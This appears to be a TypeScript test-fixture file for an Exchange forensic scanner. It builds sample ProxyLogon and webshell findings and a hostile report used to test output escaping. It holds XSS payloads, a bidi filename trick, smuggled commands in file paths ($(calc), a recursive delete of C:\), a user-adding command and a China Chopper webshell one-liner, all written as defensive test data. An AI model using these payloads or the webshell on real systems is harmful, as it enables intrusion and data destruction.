// Test-only builders: findings and reports shaped like the engine's, and a hostile report for the writers.

import type { Finding, RequestSection } from '../core/finding.js';
import type { ScanReport } from '../core/report.js';
import { commandSectionOf, requestSectionOf } from '../core/sections.js';
import { parseWith } from '../sources/parse-text.js';
import { buildIncident } from './incident.js';
import type { IncidentOptions } from './incident.js';

let n = 0;

/**
 * The sections the engine would fill for a log line: the line read by the real parser (W3C lines in IIS's
 * default layout; CSV rows under `header`, `#Fields: ...` included) and its record read through the roles.
 */
export function sectionsOfLine(
  excerpt: string,
  header?: { source: string; text: string },
): Pick<Finding, 'request' | 'command'> {
  const source = header?.source ?? (/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d /.test(excerpt) ? 'iis-w3c' : undefined);
  if (!source) return {};
  const r = parseWith(source, 'test.log', `${header?.text ?? ''}${excerpt}\r\n`).records[0];
  if (!r) return {};
  const request: RequestSection | undefined = requestSectionOf(r);
  const command = commandSectionOf(r);
  return { ...(request ? { request } : {}), ...(command ? { command } : {}) };
}

/**
 * The typed sections a detector sets beside the text it writes into `details` (`url`, `httpStatus`,
 * `path`, `cmd`, ...): tests state a finding as the detectors describe it, and get both, as from a scan.
 */
export function sectionsOfDetails(
  d: Record<string, string> | undefined,
  fileEvidence: boolean,
): Partial<Finding> {
  if (!d) return {};
  const out: Partial<Finding> = {};
  const request: RequestSection = {};
  if (d.method) request.method = d.method;
  if (d.url) request.path = d.url;
  if (d.query) request.query = d.query;
  const status = Number.parseInt(d.httpStatus ?? '', 10);
  if (!Number.isNaN(status)) request.status = status;
  if (d.requestId) request.requestId = d.requestId.toLowerCase();
  if (d.anchorMailbox) request.anchorMailbox = d.anchorMailbox;
  if (d.ecpCanary) request.canary = d.ecpCanary;
  if (Object.keys(request).length > 0) out.request = request;
  if (d.path && (fileEvidence || !d.url))
    out.file = { path: d.path, ...(d.reasons ? { reasons: d.reasons.split('; ') } : {}) };
  const text = d.command ?? d.cmd ?? (d.cmdlet ? `${d.cmdlet} ${d.parameters ?? ''}`.trim() : undefined);
  if (text)
    out.command = {
      text,
      ...(d.cmdlet ? { cmdlet: d.cmdlet } : {}),
      ...(d.parameters ? { parameters: d.parameters } : {}),
    };
  if (d.indicatorType && d.indicator) out.indicator = { type: d.indicatorType, value: d.indicator };
  else if (d.indicatorType) out.indicator = { type: d.indicatorType, value: '' };
  if (d.gate === 'exploitation' || d.gate === 'vendor') out.gate = d.gate;
  return out;
}

export function finding(
  p: Partial<Finding> & {
    excerpt?: string;
    path?: string;
    line?: number | null;
    /** CSV rows: the source and the header lines their sections are read under. */
    header?: { source: string; text: string };
  },
): Finding {
  n++;
  const { excerpt, path, line, header, ...rest } = p;
  const fromLine = excerpt && line !== null ? sectionsOfLine(excerpt, header) : {};
  const fromDetails = sectionsOfDetails(rest.details, line === null);
  const request =
    fromLine.request || fromDetails.request ? { ...fromLine.request, ...fromDetails.request } : undefined;
  return {
    ...fromLine,
    ...fromDetails,
    ...(request ? { request } : {}),
    id: `f${String(n).padStart(4, '0')}`,
    rule: { id: 'test.rule', title: 'Test rule', author: 'exhunt', source: 'exhunt' },
    severity: 'high',
    cves: [],
    stage: 'exploit',
    outcome: 'attempt',
    sourceIps: [],
    evidence: [
      {
        path: path ?? 'inetpub/logs/LogFiles/W3SVC1/u_ex210303.log',
        ...(line === null ? {} : { line: line ?? n }),
        excerpt: excerpt ?? '',
      },
    ],
    ...rest,
  };
}

export function resetIds(): void {
  n = 0;
}

export function report(findings: Finding[], extra: Partial<ScanReport> = {}): ScanReport {
  return {
    schemaVersion: '1.1.0',
    tool: { name: 'exhunt', version: '0.0.0-test' },
    scan: {
      startedAt: '2021-03-10T00:00:00.000Z',
      finishedAt: '2021-03-10T00:00:01.000Z',
      evidence: { root: '/evidence/exch01', kind: 'folder' },
      layout: 'system-drive',
      installPath: 'program files/microsoft/exchange server/v15/',
    },
    verdict: findings.some((f) => f.outcome === 'compromise') ? 'compromised' : 'attempted',
    explanation: 'test',
    decisive: [],
    findings,
    webshells: [],
    artifacts: [],
    coverage: [
      {
        family: 'IIS/W3SVC1',
        source: 'iis-w3c',
        files: 1,
        records: 100,
        firstTime: '2021-02-01T00:00:00.000Z',
        lastTime: '2021-03-09T00:00:00.000Z',
      },
    ],
    problems: [],
    rules: { loaded: 0, skipped: [], notApplicable: 0, detectors: 0 },
    stats: { artifacts: 1, bytes: 1, records: 1, badRecords: 0, problems: 0 },
    ...extra,
  };
}

/** A W3C line in IIS's default layout, as the front end writes it. */
export function w3c(o: {
  time: string;
  method?: string;
  stem: string;
  query?: string;
  port?: number;
  user?: string;
  ip: string;
  ua: string;
  status?: number;
  serverIp?: string;
}): string {
  const t = o.time.replace('T', ' ').slice(0, 19);
  return `${t} ${o.serverIp ?? '10.0.0.5'} ${o.method ?? 'GET'} ${o.stem} ${o.query || '-'} ${o.port ?? 443} ${o.user ?? '-'} ${o.ip} ${o.ua.replace(/ /g, '+')} - ${o.status ?? 200} 0 0 15`;
}

/** Attacker-controlled text of every kind the writers must neutralise. */
export const EVIL = {
  script: '<script>window.__pwned=1;alert(1)</script>',
  img: '"><img src=x onerror="window.__pwned=2">',
  svg: "'><svg onload=window.__pwned=3>",
  bidi: 'gpj.\u202easpx',
  quotePath: "inetpub/wwwroot/aspnet_client/it's ’here’ $(calc).aspx",
  control: 'inetpub/wwwroot/aspnet_client/bad\r\nRemove-Item C:\\ -Recurse.aspx',
  md: '| a | `b` **c** [x](http://evil.example) <b>',
};

/** A compromised report whose attacker-controlled strings are all hostile, with its incident sections built. */
export function hostileReport(opts: IncidentOptions = {}): ScanReport {
  resetIds();
  const shell = `inetpub/wwwroot/aspnet_client/${EVIL.script}.aspx`;
  const fs: Finding[] = [
    finding({
      rule: {
        id: 'exhunt.proxylogon.ecp-session',
        title: 'ProxyLogon ECP session obtained (proxyLogon.ecp)',
        author: 'exhunt',
        source: 'exhunt',
      },
      stage: 'exploit',
      outcome: 'success',
      cves: ['CVE-2021-26855'],
      time: '2021-03-03T06:49:46.210Z',
      sourceIps: ['203.0.113.51'],
      userAgent: `python-requests ${EVIL.img}`,
      path: 'Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG',
      summary: `POST /ecp/y.js -> ServerInfo~a]@ex.local:444/ecp/proxyLogon.ecp?# (241) ${EVIL.svg}`,
      details: {
        anchorMailbox: 'ServerInfo~a]@ex.local:444/ecp/proxyLogon.ecp?#',
        httpStatus: '241',
        requestId: 'd4d5d357-7d8c-4b4e-81cf-7aa67874e1af',
      },
      excerpt: `2021-03-03T06:49:46.210Z,d4d5d357-7d8c-4b4e-81cf-7aa67874e1af,/ecp/y.js,${EVIL.script}`,
    }),
    finding({
      rule: {
        id: 'exhunt.webshell.file',
        title: 'Webshell in a web-served folder',
        author: 'exhunt',
        source: 'exhunt',
      },
      stage: 'webshell-write',
      outcome: 'compromise',
      time: '2021-03-03T06:50:01.000Z',
      path: shell,
      line: null,
      details: { path: shell, reasons: `China Chopper ${EVIL.img}` },
      excerpt: `<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>${EVIL.script}`,
    }),
    finding({
      rule: {
        id: 'exhunt.webshell.file',
        title: 'Webshell in a web-served folder',
        author: 'exhunt',
        source: 'exhunt',
      },
      stage: 'webshell-write',
      outcome: 'compromise',
      time: '2021-03-03T06:50:02.000Z',
      path: EVIL.quotePath,
      line: null,
      details: { path: EVIL.quotePath, reasons: 'quote' },
      excerpt: 'eval(Request',
    }),
    finding({
      rule: {
        id: 'exhunt.webshell.file',
        title: 'Webshell in a web-served folder',
        author: 'exhunt',
        source: 'exhunt',
      },
      stage: 'webshell-write',
      outcome: 'compromise',
      time: '2021-03-03T06:50:03.000Z',
      path: EVIL.control,
      line: null,
      details: { path: EVIL.control, reasons: 'control' },
      excerpt: 'eval(Request',
    }),
    finding({
      rule: {
        id: 'exhunt.webshell.known-name-access',
        title: 'Known webshell name answered by the server',
        author: 'exhunt',
        source: 'exhunt',
      },
      stage: 'webshell-use',
      outcome: 'compromise',
      time: '2021-03-03T06:51:00.000Z',
      sourceIps: ['203.0.113.51'],
      userAgent: EVIL.md,
      summary: `GET /aspnet_client/${EVIL.bidi}`,
      details: {
        url: `/aspnet_client/${EVIL.script}.aspx`,
        httpStatus: '200',
        method: 'GET',
        command: `whoami ${EVIL.svg} net user evil'; Pa55 /add`,
      },
      // A pass's reason can carry attacker text (a file path): every writer escapes it.
      adjustments: [
        {
          pass: 'webshells',
          field: 'outcome',
          from: 'suspicious',
          to: 'compromise',
          reason: `the requested file ${EVIL.script} ${EVIL.md} ${EVIL.control} is a webshell on disk`,
        },
      ],
      excerpt: w3c({
        time: '2021-03-03T06:51:00Z',
        stem: `/aspnet_client/x.aspx`,
        query: `cmd=${EVIL.script}`,
        ip: '203.0.113.51',
        ua: 'x',
      }),
    }),
  ];
  const r = report(fs, {
    verdict: 'compromised',
    explanation: `The server was compromised: ${EVIL.script}`,
    scan: {
      startedAt: '2021-03-10T00:00:00.000Z',
      finishedAt: '2021-03-10T00:00:01.000Z',
      evidence: { root: `/evidence/${EVIL.img}`, kind: 'folder' },
      layout: 'system-drive',
    },
    webshells: [shell, EVIL.quotePath, EVIL.control].map((path, i) => ({
      path,
      sha256: String(i + 1).repeat(64),
      size: 67,
      reasons: [`China Chopper ${EVIL.img}`],
    })),
    problems: [
      { code: 'parse.bad-line', message: EVIL.script, path: EVIL.bidi, line: 3, severity: 'warning' },
    ],
  });
  r.integrity = {
    complete: false,
    files: { listed: 3, read: 2, withLoss: 1, skipped: 1, unread: 0 },
    bytes: { listed: 300, read: 200, skipped: 100, unread: 0 },
    skipped: [{ reason: 'no-reader', files: 1, bytes: 100, examples: [`${EVIL.svg}.bin`] }],
    losses: [
      {
        path: EVIL.bidi,
        family: 'IIS/W3SVC1',
        loss: 'records',
        codes: ['parse.bad-line'],
        problems: 1,
        first: `${EVIL.bidi}:3`,
        message: EVIL.script,
        lowers: true,
      },
    ],
    gaps: [
      {
        family: `IIS/${EVIL.md}`,
        from: '2021-03-04',
        to: '2021-03-04',
        days: 1,
        inExposure: true,
        lowers: true,
      },
    ],
    access: { noatime: 'used', note: `read without changing access times ${EVIL.img}` },
  };
  return Object.assign(r, buildIncident(r, opts));
}
